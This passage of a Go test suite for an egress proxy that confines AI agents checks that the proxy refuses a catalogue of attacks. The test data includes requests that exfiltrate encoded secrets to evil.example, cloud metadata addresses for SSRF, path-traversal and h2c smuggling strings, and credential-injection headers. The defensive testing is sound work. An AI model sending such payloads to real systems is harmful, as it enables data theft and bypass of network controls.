package egress

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/bot-bottle/bot-bottle/internal/audit"
	"github.com/bot-bottle/bot-bottle/internal/policy"
)

// unreachable is an origin that no request may reach.
func unreachable(t *testing.T) *origin {
	t.Helper()
	return newOrigin(t, func(_ http.ResponseWriter, r *http.Request) {
		t.Errorf("%s %s of %s arrived", r.Method, r.RequestURI, r.Host)
	})
}

// Attack A1: data in the labels of a name that is refused anyway; asking for it, or
// sending a request to it, must not make egress resolve it.
func TestAttackA1_RefusedNamesAreNotResolved(t *testing.T) {
	resolved := func(_ context.Context, _, host string) ([]netip.Addr, error) {
		t.Errorf("%s was resolved", host)
		return nil, errors.New("no")
	}
	l := newLabWith(t, func(s *Server) { s.guard.resolve = resolved }, policy.Route{Host: "api.example", Methods: []string{"GET"}})
	for _, said := range []string{
		"GET /.bot-bottle/v1/lookup?name=c2VjcmV0.evil.example HTTP/1.1\r\nHost: egress.bot-bottle\r\n\r\n",
		"GET /.bot-bottle/v1/lookup?name=api.example HTTP/1.1\r\nHost: egress.bot-bottle\r\n\r\n",
		"CONNECT c2VjcmV0.evil.example:443 HTTP/1.1\r\nHost: c2VjcmV0.evil.example:443\r\n\r\n",
		"CONNECT api.example:8443 HTTP/1.1\r\nHost: api.example:8443\r\n\r\n",
		"GET http://c2VjcmV0.evil.example/ HTTP/1.1\r\nHost: c2VjcmV0.evil.example\r\n\r\n",
	} {
		if status, _ := say(t, l.dial(t), said); status == 0 {
			t.Errorf("no answer to %q", said)
		}
	}
	if response, _ := get(t, l.client(t, false), request(t, "POST", "https://api.example/", nil)); response.StatusCode != 403 {
		t.Errorf("got %s", response.Status)
	}
	l.awaitEvent(t, "the question", func(e audit.Event) bool {
		return e.Kind == audit.Lookup && e.Host == "c2VjcmV0.evil.example" && e.Decision == audit.Deny
	})
}

// Attack A11: an allowed name whose owner points it at the host, the local network or a
// metadata service, in one of the many ways to write such an address.
func TestAttackA11_LocalAddressesAreNotDialled(t *testing.T) {
	always := []string{
		"169.254.169.254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "::a9fe:a9fe", "2002:a9fe:a9fe::1", "169.254.170.2", "fd00:ec2::254",
		"100.100.100.200", "168.63.129.16", "0.0.0.0", "0.1.2.3", "::", "224.0.0.1", "ff02::1", "255.255.255.255", "240.0.0.1",
		"2001:0:a9fe:a9fe::1", "64:ff9b:1::1",
	}
	unlessPrivate := []string{
		"127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1", "10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.1.1", "fe80::1", "fe80::1%eth0", "fc00::1",
		"fd12::1", "100.64.0.1", "192.0.0.1", "198.18.0.1", "::ffff:10.0.0.1", "64:ff9b::a00:1", "::10.0.0.1", "2002:a00:1::1", "fec0::1",
	}
	for _, a := range always {
		if forbidden(netip.MustParseAddr(a), false) == "" || forbidden(netip.MustParseAddr(a), true) == "" {
			t.Errorf("%s may be dialled", a)
		}
	}
	for _, a := range unlessPrivate {
		if forbidden(netip.MustParseAddr(a), false) == "" {
			t.Errorf("%s may be dialled by any route", a)
		}
		if why := forbidden(netip.MustParseAddr(a), true); why != "" {
			t.Errorf("%s may not be dialled by a private route: %s", a, why)
		}
	}
	for _, a := range []string{"1.1.1.1", "2606:4700::1111", "64:ff9b::101:101", "172.32.0.1"} {
		if why := forbidden(netip.MustParseAddr(a), false); why != "" {
			t.Errorf("%s: %s", a, why)
		}
	}
}

// Attack A11: the same through the proxy; one good address among bad ones does not help,
// and the refusal says why.
func TestAttackA11_ANameWithOneLocalAddressIsRefused(t *testing.T) {
	up := unreachable(t)
	addresses := []netip.Addr{netip.MustParseAddr("1.1.1.1"), netip.MustParseAddr("127.0.0.1")}
	route := up.route("api.example", nil)
	route.Address, route.Private = "", false
	_, route.Port = splitPort(t, up.Listener.Addr())
	l := newLabWith(t, func(s *Server) {
		s.guard.resolve = func(context.Context, string, string) ([]netip.Addr, error) { return addresses, nil }
	}, route)
	response, body := get(t, l.client(t, false), request(t, "GET", fmt.Sprintf("https://api.example:%d/", route.Port), nil))
	if response.StatusCode != 403 || !strings.Contains(body, "address_denied") || !strings.Contains(body, "127.0.0.1") {
		t.Errorf("got %s %s", response.Status, body)
	}
	l.awaitEvent(t, "the refusal", func(e audit.Event) bool { return e.Decision == audit.Deny && strings.Contains(e.Reason, "127.0.0.1") })
}

func splitPort(t *testing.T, a net.Addr) (string, int) {
	t.Helper()
	tcp, ok := a.(*net.TCPAddr)
	if !ok {
		t.Fatalf("%v", a)
	}
	return tcp.IP.String(), tcp.Port
}

// Attack A11: a name that answers with a good address when it is checked, and with a
// local one when it is dialled; and again for each new connection.
func TestAttackA11_RebindingBetweenCheckAndDial(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, "right") })
	_, port := splitPort(t, up.Listener.Addr())
	var asked atomic.Int64
	route := up.route("api.example", nil)
	route.Address, route.Port = "", port // private: the origin is on loopback
	l := newLabWith(t, func(s *Server) {
		s.guard.resolve = func(context.Context, string, string) ([]netip.Addr, error) {
			if asked.Add(1) > 1 {
				return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
			}
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
	}, route)
	target := fmt.Sprintf("https://api.example:%d/", port)
	client := l.client(t, false)
	for range 2 { // the second on the pooled connection, whose address was checked
		if _, body := get(t, client, request(t, "GET", target, nil)); body != "right" {
			t.Fatalf("got %s", body)
		}
	}
	if n := asked.Load(); n != 1 {
		t.Errorf("the name was resolved %d times for one connection", n)
	}
	up.CloseClientConnections()
	l.server.rules.Load().routes[0].transport.CloseIdleConnections()
	if response, body := get(t, client, request(t, "GET", target, nil)); response.StatusCode != 403 {
		t.Errorf("got %s %s", response.Status, body)
	}
}

// Attack A12: an allowed host answers with a redirect to a denied one; following it would
// carry our credential there.
func TestAttackA12_RedirectsAreReturned(t *testing.T) {
	evil := unreachable(t)
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil.URL+"/take", http.StatusFound) })
	l := newLab(t, up.route("api.example", keyAuth()))
	response, _ := get(t, l.client(t, false), request(t, "GET", "https://api.example/", nil))
	if response.StatusCode != 302 || response.Header.Get("Location") != evil.URL+"/take" {
		t.Errorf("got %s to %s", response.Status, response.Header.Get("Location"))
	}
}

// Attack B1: a NUL byte or another control character in the authority, so that we see
// an allowed suffix and the resolver another name.
func TestAttackB1_NULByteInAuthority(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("**.allowed.example", nil))
	for _, name := range []string{"evil.com\x00.allowed.example", "evil.com\x01.allowed.example", "evil.com\t.allowed.example", "evil.com%00.allowed.example", "evil.com\\.allowed.example"} {
		if _, status := l.connect(t, name+":443"); status == 200 {
			t.Errorf("a tunnel to %q", name)
		}
	}
}

// Attack B2: the tunnel is to an allowed host, the ClientHello names another one, or none.
func TestAttackB2_ServerNameIsTheTunnels(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("api.example", nil), up.route("other.example", nil))
	for _, name := range []string{"other.example", "evil.example", ""} {
		conn, _ := l.connect(t, "api.example:443")
		if err := tls.Client(conn, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake(); err == nil {
			t.Errorf("a TLS session for %q in a tunnel to api.example", name)
		}
	}
	e := l.awaitEvent(t, "the refusal", func(e audit.Event) bool { return strings.Contains(e.Reason, "other.example") })
	if e.Decision != audit.Deny || e.Host != "api.example" {
		t.Errorf("got %+v", e)
	}
}

// Attack B2: the request in the tunnel is for another host, also an allowed one.
func TestAttackB2_HostIsTheTunnels(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("api.example", nil), up.route("other.example", nil))
	for _, said := range []string{
		"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: api.example:444\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: api.example, other.example\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: api.example\r\nHost: other.example\r\n\r\n",
		"GET https://other.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n",
		"GET https://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n",
		"GET / HTTP/1.1\r\nHost:\r\n\r\n",
		"GET / HTTP/1.0\r\n\r\n",
		"CONNECT other.example:443 HTTP/1.1\r\nHost: other.example:443\r\n\r\n",
		"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n",
		"GET /.bot-bottle/v1/lookup?name=x HTTP/1.1\r\nHost: egress.bot-bottle\r\n\r\n",
	} {
		if status, body := say(t, l.secure(t, "api.example", 443), said); status < 400 {
			t.Errorf("%q: got %d %s", said, status, body)
		}
	}
	r := request(t, "GET", "https://api.example/", nil)
	r.Host = "other.example" // :authority
	if response, body := get(t, l.client(t, true), r); response.StatusCode != 421 || response.ProtoMajor != 2 {
		t.Errorf("h2: got %s %s", response.Status, body)
	}
}

// Attack B3: look-alikes of an allowed host: another case is the same host, everything
// else is not.
func TestAttackB3_LookAlikesOfAnAllowedHost(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, r.Host+" "+r.TLS.ServerName)
	})
	l := newLab(t, up.route("api.example", nil))
	for authority, want := range map[string]int{
		"API.Example:443": 200, "api.example.:443": 400, "api.example.evil.example:443": 403, "evil-api.example:443": 403,
		"user@api.example:443": 400, "api.example@evil.example:443": 400, "127.0.0.1:443": 400, "[::1]:443": 400, "2130706433:443": 400, "0x7f.1:443": 400,
		"api.example:443:443": 400, "api.example": 400, "api.example:": 400, "api.example:0": 400, "api.example:65979": 400, "api.example:+443": 400,
		"api.exаmple:443": 400, "xn--pi-7kc.example:443": 403, "api.example..:443": 400, "api.example:0443": 200,
	} {
		if _, status := l.connect(t, authority); status != want {
			t.Errorf("%s: got %d, want %d", authority, status, want)
		}
	}
	if status, body := say(t, l.secure(t, "api.example", 443), "GET / HTTP/1.1\r\nHost: API.example:443\r\n\r\n"); status != 200 || body != "api.example api.example" {
		t.Errorf("got %d %q: the upstream must see the normal form", status, body)
	}
}

// Attack B5: a path that our rule reads one way and the server another.
func TestAttackB5_AmbiguousPaths(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, r.RequestURI) })
	route := up.route("api.example", nil)
	route.Paths = []string{"/ok/**"}
	l := newLab(t, route, up.route("registry.example", nil))
	for _, path := range []string{
		"/ok/../admin", "/ok/%2e%2e/admin", "/ok/..%2fadmin", "/ok/..;/admin", "/ok/.%2e/admin", "/ok/%252e%252e/admin", "/ok/..\\admin", "/ok/%5c..%5cadmin",
		"//ok/x", "/ok//x", "/OK/x", "/./ok/x", "/ok/;.", "/ok/%00", "/ok/a%2fb", "/ok/a%3bb", "/ok/%c0%ae%c0%ae/x", "/%6fk/../x", "/admin?/ok/", "/admin#/ok/", "*", "/ok/%",
	} {
		for _, host := range []string{"api.example"} {
			if status, body := say(t, l.secure(t, host, 443), "GET "+path+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n"); status < 400 {
				t.Errorf("%s: got %d %s", path, status, body)
			}
		}
	}
	for _, path := range []string{"/ok/x", "/ok/a%20b?x=/../", "/%6fk/x"} {
		if status, body := say(t, l.secure(t, "api.example", 443), "GET "+path+" HTTP/1.1\r\nHost: api.example\r\n\r\n"); status != 200 || body != path {
			t.Errorf("%s: got %d %s; what was judged must be what is sent", path, status, body)
		}
	}
	if status, body := say(t, l.secure(t, "registry.example", 443), "GET /@scope%2fname HTTP/1.1\r\nHost: registry.example\r\n\r\n"); status != 200 || body != "/@scope%2fname" {
		t.Errorf("a host without paths: got %d %s", status, body)
	}
}

// Attack B7: an upgrade to HTTP/2 in clear, or HTTP/2 begun without asking, after which
// nobody looks at the requests.
func TestAttackB7_NoHTTP2InClear(t *testing.T) {
	up := newOrigin(t, func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s arrived", r.RequestURI) })
	plain := newPlainOrigin(t, func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s arrived", r.RequestURI) })
	l := newLab(t, up.route("api.example", nil), policy.Route{Host: "plain.example", Protocol: policy.HTTP, Address: plain.Listener.Addr().String(), Private: true})
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	for _, said := range []string{
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n",
		preface,
	} {
		secure := l.secure(t, "api.example", 443)
		clear, _ := l.connect(t, "plain.example:80")
		for host, conn := range map[string]net.Conn{"api.example": secure, "plain.example": clear} {
			if status, body := say(t, conn, strings.Replace(said, "%s", host, 1)); status != 0 && status < 400 {
				t.Errorf("%s: %q: got %d %s", host, said, status, body)
			}
		}
	}
	if status, _ := say(t, l.dial(t), preface); status != 0 && status < 400 {
		t.Errorf("prior knowledge on the socket: got %d", status)
	}
}

// Attack B8: bytes after the upgrade request that the server may read as another request
// when it declines; and an answer whose head never ends.
func TestAttackB8_DeclinedUpgrade(t *testing.T) {
	var seen atomic.Int64
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		seen.Add(1)
		if r.URL.Path == "/long" {
			conn, _, _ := http.NewResponseController(w).Hijack()
			_, _ = io.WriteString(conn, "HTTP/1.1 101 Switching Protocols\r\n")
			for {
				if _, err := io.WriteString(conn, "X-Y: "+strings.Repeat("z", 1000)+"\r\n"); err != nil {
					return
				}
			}
		}
		w.WriteHeader(http.StatusBadRequest)
	})
	route := up.route("api.example", nil)
	route.Paths = []string{"/ws", "/long"}
	l := newLab(t, route)
	const upgrade = " HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
	conn := l.secure(t, "api.example", 443)
	if status, _ := say(t, conn, "GET /ws"+upgrade+"GET /admin HTTP/1.1\r\nHost: api.example\r\n\r\n"); status != 400 {
		t.Errorf("got %d", status)
	}
	if status, _ := say(t, l.secure(t, "api.example", 443), "GET /long"+upgrade); status != 502 {
		t.Errorf("an endless head: got %d", status)
	}
	if n := seen.Load(); n != 2 {
		t.Errorf("%d requests arrived, want 2", n)
	}
}

// Attack B9: one allowed request opens the connection, the next one on it goes elsewhere.
func TestAttackB9_EveryRequestIsDecided(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, r.URL.Path) })
	route := up.route("api.example", nil)
	route.Paths, route.Methods = []string{"/ok"}, []string{"GET"}
	l := newLab(t, route, up.route("other.example", nil))
	conn := l.secure(t, "api.example", 443)
	for _, c := range []struct {
		said string
		want int
	}{
		{"GET /ok HTTP/1.1\r\nHost: api.example\r\n\r\n", 200},
		{"GET /admin HTTP/1.1\r\nHost: api.example\r\n\r\n", 403},
		{"DELETE /ok HTTP/1.1\r\nHost: api.example\r\n\r\n", 403},
		{"GET /ok HTTP/1.1\r\nHost: other.example\r\n\r\n", 421},
		{"GET /ok HTTP/1.1\r\nHost: api.example\r\n\r\n", 200},
	} {
		if status, body := say(t, conn, c.said); status != c.want {
			t.Errorf("%q: got %d %s, want %d", c.said, status, body, c.want)
		}
	}
}

// Attack B10: a client that trusts only the real server's certificate; it must not be
// passed through uninspected, and the operator must be able to see why it fails.
func TestAttackB10_APinnedClientIsRefusedVisibly(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("api.example", nil))
	conn, _ := l.connect(t, "api.example:443")
	if err := tls.Client(conn, &tls.Config{ServerName: "api.example"}).Handshake(); err == nil {
		t.Error("a handshake with another CA")
	}
	l.awaitEvent(t, "the refusal", func(e audit.Event) bool {
		return e.Kind == audit.Connect && e.Decision == audit.Deny && strings.Contains(e.Reason, "certificate")
	})
}

// Attack B11: absolute-form requests take another way than CONNECT; it must hold the
// same decisions, and not reach https or our own questions.
func TestAttackB11_AbsoluteFormIsDecidedLikeAllElse(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("api.example", nil), policy.Route{Host: "plain.example", Protocol: policy.HTTP, Methods: []string{"GET"}, Paths: []string{"/ok"}})
	for _, target := range []string{
		"http://evil.example/", "http://api.example/", "https://api.example/", "http://api.example:443/", "http://plain.example/no", "http://plain.example:81/ok",
		"http://user:pass@plain.example/ok", "ftp://plain.example/ok", "http://127.0.0.1/", "http://plain.example%00/ok", "http://egress.bot-bottle/.bot-bottle/v1/ports",
		"http://plain.example/ok/../no", "http:/ok", "http:plain.example/ok",
	} {
		if status, body := say(t, l.dial(t), "GET "+target+" HTTP/1.1\r\nHost: plain.example\r\n\r\n"); status != 403 && status != 400 {
			t.Errorf("%s: got %d %s", target, status, body)
		}
	}
	for _, said := range []string{
		"GET /ok HTTP/1.1\r\nHost: plain.example\r\n\r\n",
		"POST http://plain.example/ok HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 0\r\n\r\n",
	} {
		if status, body := say(t, l.dial(t), said); status != 403 && status != 400 {
			t.Errorf("%q: got %d %s", said, status, body)
		}
	}
}

// Attack C1: the bottle adds its own key beside the one we inject, in another header or
// in the query; the data would land in its account.
func TestAttackC1_OnlyOurCredentialLeaves(t *testing.T) {
	var got *http.Request
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) { got = r })
	for _, auth := range []*policy.Auth{
		keyAuth(), {Scheme: policy.Bearer, Secret: "KEY"}, {Scheme: policy.Basic, User: "x", Secret: "KEY"}, {Scheme: policy.Header, Header: "X-Odd-Place", Secret: "KEY"},
		{Scheme: policy.Query, Parameter: "odd", Secret: "KEY"}, {Scheme: policy.Placeholder, Secret: "KEY"},
	} {
		l := newLab(t, up.route("api.example", auth))
		r := request(t, "GET", "https://api.example/?key=attacker&a=1&API_KEY=attacker&acc%65ss_token=attacker&b=2&;token=attacker", nil)
		for _, name := range append(credentialHeaders, "X-Odd-Place", "Forwarded", "X-Forwarded-For", "X-Forwarded-Host", "Proxy-Authenticate", "Proxy-Connection") {
			if name != "X-Odd-Place" || auth.Header == name {
				r.Header[name] = []string{"attacker", "attacker"}
			}
		}
		r.Header["x-aPi-kEy"] = []string{"attacker"} // as HTTP/1.1 lets us write it
		r.Header.Set("Connection", "X-Api-Key, Authorization, X-Odd-Place")
		switch auth.Scheme {
		case policy.Query:
			r.URL.RawQuery += "&odd=attacker&%6fDD=attacker"
		case policy.Placeholder:
			r.Header.Add("X-Anywhere", placeholder)
			r.Header.Add("Cookie", "session=attacker; ours="+placeholder+"; other=attacker")
		}
		if response, body := get(t, l.client(t, false), r); response.StatusCode != 200 {
			t.Fatalf("got %s %s", response.Status, body)
		}
		var all bytes.Buffer
		_ = got.Header.Write(&all)
		if strings.Contains(all.String()+got.RequestURI, "attacker") {
			t.Errorf("%s: arrived: %s\n%s", auth.Scheme, got.RequestURI, all.String())
		}
		if !strings.Contains(got.RequestURI, "a=1&b=2") {
			t.Errorf("other parameters did not arrive: %s", got.RequestURI)
		}
		encoded := base64.StdEncoding.EncodeToString([]byte("x:" + realKey))
		want := 1
		if auth.Scheme == policy.Placeholder {
			want = 2
		}
		if n := strings.Count(got.RequestURI+all.String(), realKey) + strings.Count(all.String(), encoded); n != want {
			t.Errorf("%s: our credential arrived %d times:\n%s", auth.Scheme, n, all.String())
		}
	}
}

// A client puts its placeholder where its credential goes; there it is replaced.
func TestPlaceholderIsReplaced(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		for _, got := range []string{password, r.Header.Get("X-Odd-Place"), strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")} {
			if got == realKey {
				w.WriteHeader(http.StatusAccepted)
			}
		}
	})
	for _, c := range []struct {
		auth   policy.Auth
		header string
		value  string
	}{
		{policy.Auth{Scheme: policy.Bearer, Secret: "KEY"}, "Authorization", "Bearer " + placeholder},
		{policy.Auth{Scheme: policy.Basic, User: "x", Secret: "KEY"}, "Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+placeholder))},
		{policy.Auth{Scheme: policy.Header, Header: "x-odd-place", Secret: "KEY"}, "X-Odd-Place", placeholder},
	} {
		l := newLab(t, up.route("api.example", &c.auth))
		r := request(t, "POST", "https://api.example/", strings.NewReader("printenv says KEY="+placeholder))
		r.Header.Set(c.header, c.value)
		if response, body := get(t, l.client(t, true), r); response.StatusCode != http.StatusAccepted {
			t.Errorf("%s: got %s %s", c.auth.Scheme, response.Status, body)
		}
	}
}

// Attack C3: an upstream that sends our credential back, in a header, in the body, cut
// anywhere, encoded, compressed, after an upgrade, or in a trailer.
func TestAttackC3_EchoedCredentialsAreMasked(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte("user:" + realKey))
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		flush := func() { _ = http.NewResponseController(w).Flush() }
		switch r.URL.Path {
		case "/header":
			w.Header().Set("Location", "https://x.example/?k="+url.QueryEscape(realKey))
			w.Header().Set("Www-Authenticate", "Bearer "+r.Header.Get("X-Api-Key"))
		case "/body":
			_, _ = fmt.Fprintf(w, "a %s b %s c %s d", realKey, encoded, hex.EncodeToString([]byte(realKey)))
		case "/split":
			for _, b := range []byte("a " + realKey + " b") {
				_, _ = w.Write([]byte{b})
				flush()
			}
		case "/gzip":
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			_, _ = io.WriteString(z, "a "+realKey+" b")
			_ = z.Close()
		case "/brotli":
			w.Header().Set("Content-Encoding", "br")
			_, _ = io.WriteString(w, "whatever")
		case "/trailer":
			w.Header().Set("Trailer", "Grpc-Message")
			_, _ = io.WriteString(w, "a")
			flush()
			w.Header().Set("Grpc-Message", "bad key "+realKey)
		case "/broken":
			w.Header().Set("Content-Length", "1000")
			_, _ = io.WriteString(w, "a "+realKey)
			flush()
			panic(http.ErrAbortHandler)
		}
	})
	l := newLab(t, up.route("api.example", keyAuth()))
	for _, h2 := range []bool{false, true} {
		client := l.client(t, h2)
		for _, path := range []string{"/header", "/body", "/split", "/gzip", "/brotli", "/trailer", "/broken"} {
			response, err := client.Do(request(t, "GET", "https://api.example"+path, nil))
			if err != nil {
				t.Fatal(err)
			}
			body, err := io.ReadAll(response.Body)
			_ = response.Body.Close()
			if (err != nil) != (path == "/broken") {
				t.Errorf("%s: %v", path, err)
			}
			var all bytes.Buffer
			_ = response.Header.Write(&all)
			_ = response.Trailer.Write(&all)
			all.Write(body)
			for _, form := range []string{realKey, encoded, realKey[:8], realKey[len(realKey)-8:], hex.EncodeToString([]byte(realKey))} {
				if strings.Contains(all.String(), form) {
					t.Errorf("%s (h2=%v): %q came back", path, h2, form)
				}
			}
			if path == "/brotli" && response.StatusCode != 502 {
				t.Errorf("an answer that cannot be looked into: got %s", response.Status)
			}
			if path == "/split" || path == "/gzip" { // the first letters are held back only when there are enough of them
				want := "a " + strings.Repeat("*", len(realKey)) + " b"
				if len(body) != len(want) || string(body[1+minHeld:]) != want[1+minHeld:] {
					t.Errorf("%s: got %q, want %q", path, body, want)
				}
			}
			if path == "/trailer" && !strings.HasPrefix(response.Trailer.Get("Grpc-Message"), "bad key ***") {
				t.Errorf("got trailer %v", response.Trailer)
			}
		}
	}
}

// Attack C5: a route whose credential is not there; the request must not go out without
// it: egress does not even start.
func TestAttackC5_NoCredentialNoRoute(t *testing.T) {
	ca, _ := newCA(t)
	for name, secrets := range map[string]string{"missing": "NOBODY", "fits no header": "LINES", "glob": "*"} {
		cfg := configWith(ca, policy.Route{Host: "api.example", Auth: &policy.Auth{Scheme: policy.Bearer, Secret: secrets}})
		if _, err := New(cfg, audit.NewWriter(io.Discard), nil, nil); err == nil {
			t.Errorf("%s: egress starts", name)
		} else if strings.Contains(err.Error(), "lines\n") {
			t.Errorf("%s: the error holds the value", name)
		}
	}
}

// Attack C6: the placeholder stands where injection does not replace it; forwarding it
// would send a worthless value and hide the mistake.
func TestAttackC6_APlaceholderThatIsNotReplaced(t *testing.T) {
	up := unreachable(t)
	l := newLab(t, up.route("api.example", keyAuth()))
	for _, change := range []func(*http.Request){
		func(r *http.Request) { r.Header.Set("X-Custom-Place", placeholder) },
		func(r *http.Request) { r.URL.Path = "/" + placeholder },
		func(r *http.Request) { r.URL.RawQuery = "where=" + placeholder },
	} {
		r := request(t, "GET", "https://api.example/", nil)
		change(r)
		if response, body := get(t, l.client(t, false), r); response.StatusCode != 403 || !strings.Contains(body, "placeholder_not_replaced") {
			t.Errorf("got %s %s", response.Status, body)
		}
	}
}

// Attack C7: a placeholder, or a secret that the bottle should not have, on its way to a
// host that it is not for: in the target, in headers, in bodies, encoded or cut in pieces.
func TestAttackC7_PlaceholdersDoNotLeave(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err == nil {
			t.Errorf("%s arrived with %s", r.RequestURI, body)
		}
	})
	l := newLab(t, up.route("api.example", keyAuth()), up.route("evil.example", nil))
	percent, unicode := "", ""
	for _, b := range []byte(otherPlaceholder) {
		percent += fmt.Sprintf("%%%02X", b)
		unicode += fmt.Sprintf(`\u%04x`, b)
	}
	forms := map[string]string{
		"plain": otherPlaceholder, "percent": percent, "twice": strings.ReplaceAll(percent, "%", "%25"), "unicode": unicode, "hex": hex.EncodeToString([]byte(otherPlaceholder)),
		"basic": base64.StdEncoding.EncodeToString([]byte("user:" + otherPlaceholder)), "url": base64.URLEncoding.EncodeToString([]byte("ab" + otherPlaceholder + "c")),
		"part": percent[:30] + otherPlaceholder[10:], "real": otherReal, "real hex": hex.EncodeToString([]byte(otherReal)),
	}
	for _, h2 := range []bool{false, true} {
		client := l.client(t, h2)
		for _, host := range []string{"api.example", "evil.example"} {
			for name, form := range forms {
				refused := func(where string, r *http.Request) {
					t.Helper()
					response, body := get(t, client, r)
					code := "secret_leak"
					if name == "twice" && where == "path" {
						code = "egress_denied" // no path that is escaped twice is looked into
					}
					if response.StatusCode != 403 || !strings.Contains(body, code) || strings.Contains(body, otherReal) && name != "real" {
						t.Errorf("%s in the %s to %s (h2=%v): got %s %s", name, where, host, h2, response.Status, body)
					}
				}
				target := "https://" + host + "/"
				if !strings.Contains(form, `\`) {
					refused("path", request(t, "GET", target+form, nil))
					refused("query", request(t, "GET", target+"?q="+form, nil))
				}
				r := request(t, "GET", target, nil)
				r.Header.Set("X-Data", "x "+form)
				refused("header", r)
				refused("body", request(t, "POST", target, strings.NewReader("before "+form+" after")))
				refused("chunked body", request(t, "POST", target, io.MultiReader(oneByOne("before "+form+" after"))))
			}
		}
	}
}

// oneByOne reads a byte at a time.
func oneByOne(s string) io.Reader { return &single{strings.NewReader(s)} }

type single struct{ r *strings.Reader }

func (s *single) Read(p []byte) (int, error) { return s.r.Read(p[:min(1, len(p))]) }

// Attack C7: a secret at the end of a body that is not held as a whole, because it is long
// or its length is not known. An end of the body that arrives would be taken for a whole
// upload.
func TestAttackC7_ALeakInALongBodyBreaksTheUpload(t *testing.T) {
	ended := make(chan error, 1)
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		_, err := io.Copy(io.Discard, r.Body)
		ended <- err
	})
	l := newLab(t, up.route("evil.example", nil))
	long := strings.Repeat("x", maxWhole) + placeholder
	for name, body := range map[string]io.Reader{"long": strings.NewReader(long), "of no known length": io.MultiReader(strings.NewReader(long[maxWhole/2:]))} {
		response, said := get(t, l.client(t, true), request(t, "POST", "https://evil.example/", body))
		if response.StatusCode != 403 {
			t.Errorf("%s: got %s %s", name, response.Status, said)
		}
		if err := <-ended; err == nil {
			t.Errorf("%s: the upstream saw a whole body", name)
		}
	}
	l.awaitEvent(t, "the leak", func(e audit.Event) bool { return e.Decision == audit.Deny && strings.Contains(e.Reason, "KEY") })
}

// Attack C10: secrets in logs, audit events and refusals, whatever goes wrong.
func TestAttackC10_NoSecretInAnyLog(t *testing.T) {
	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("X-Api-Key"))
		if r.URL.Path == "/abort" {
			_, _ = io.WriteString(w, realKey)
			_ = http.NewResponseController(w).Flush()
			panic(http.ErrAbortHandler)
		}
	})
	gone := httptest.NewServer(nil)
	gone.Close()
	refusing := policy.Route{Host: "gone.example", Auth: keyAuth(), Address: gone.Listener.Addr().String(), Private: true}
	untrusted := up.route("untrusted.example", keyAuth())
	untrusted.CA = ""
	l := newLab(t, up.route("api.example", keyAuth()), refusing, untrusted)
	client := l.client(t, false)
	for _, target := range []string{
		"https://api.example/abort", "https://gone.example/", "https://untrusted.example/", "https://api.example/" + realKey, "https://api.example/?q=" + realKey,
		"https://api.example/", "http://evil.example/" + otherReal, "http://" + otherReal + ".example/",
	} {
		for _, body := range []io.Reader{nil, strings.NewReader(realKey)} {
